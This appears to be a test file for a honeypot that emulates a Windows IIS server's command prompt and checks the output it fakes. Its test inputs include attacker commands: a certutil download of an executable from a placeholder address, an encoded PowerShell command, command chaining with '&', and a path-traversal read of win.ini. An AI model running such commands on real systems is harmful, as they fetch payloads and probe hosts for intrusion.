import * as fc from 'fast-check';
import { expect, it } from 'vitest';
import { createPersona } from '../../personas/index.ts';
import { windowsFile, windowsOutput } from './windows-prompt.ts';

const persona = createPersona('windows-server', 'a seed', { now: Date.UTC(2026, 0, 2) });
const printed = (command: string): string => windowsOutput(persona, command);

it.each([
  ['whoami', 'iis apppool\\defaultapppool\r\n'],
  ['cmd.exe /c "whoami"', 'iis apppool\\defaultapppool\r\n'],
  ['C:\\Windows\\System32\\cmd.exe /c echo a&echo b', 'a\r\nb\r\n'],
  ['echo %COMPUTERNAME%', `${persona.hostname.toUpperCase()}\r\n`],
  ['hostname', `${persona.hostname}\r\n`],
  ['ver', '\r\nMicrosoft Windows [Version 10.0.14393]\r\n'],
  ['set /a 6*7', '42'],
  ['powershell -c "41000*43000"', '1763000000\r\n'],
  [
    `powershell -NoP -EncodedCommand ${Buffer.from('whoami', 'utf16le').toString('base64')}`,
    'iis apppool\\defaultapppool\r\n',
  ],
  ['id', ''],
  ['certutil -urlcache -f http://192.0.2.1/a.exe a.exe', ''],
])('prints for %s what the prompt of this machine prints', (command, output) => {
  expect(printed(command)).toBe(output);
});

it('tells its address, its accounts and its files as the persona has them', () => {
  expect(printed('ipconfig')).toContain(persona.address);
  expect(printed('net user')).toContain('Administrator');
  expect(printed('systeminfo')).toContain(persona.hostname.toUpperCase());
  expect(printed('whoami /priv')).toContain('SeImpersonatePrivilege');
  expect(printed('type C:\\Windows\\win.ini')).toContain('[fonts]');
  expect(windowsFile('..\\..\\..\\windows\\win.ini')).toContain('16-bit app support');
  expect(windowsFile('c:/windows/none.ini')).toBeNull();
});

it('takes any command line', () => {
  const word = fc.constantFrom(
    'cmd /c ',
    'powershell ',
    '"',
    '&',
    '|',
    '%OS%',
    '-enc ',
    'echo ',
    'type ',
    'set /a ',
  );
  fc.assert(
    fc.property(fc.array(fc.oneof(word, fc.string({ maxLength: 30 })), { maxLength: 12 }), (parts) => {
      expect(printed(parts.join('')).length).toBeLessThan(70_000);
    }),
    { numRuns: 200 },
  );
});
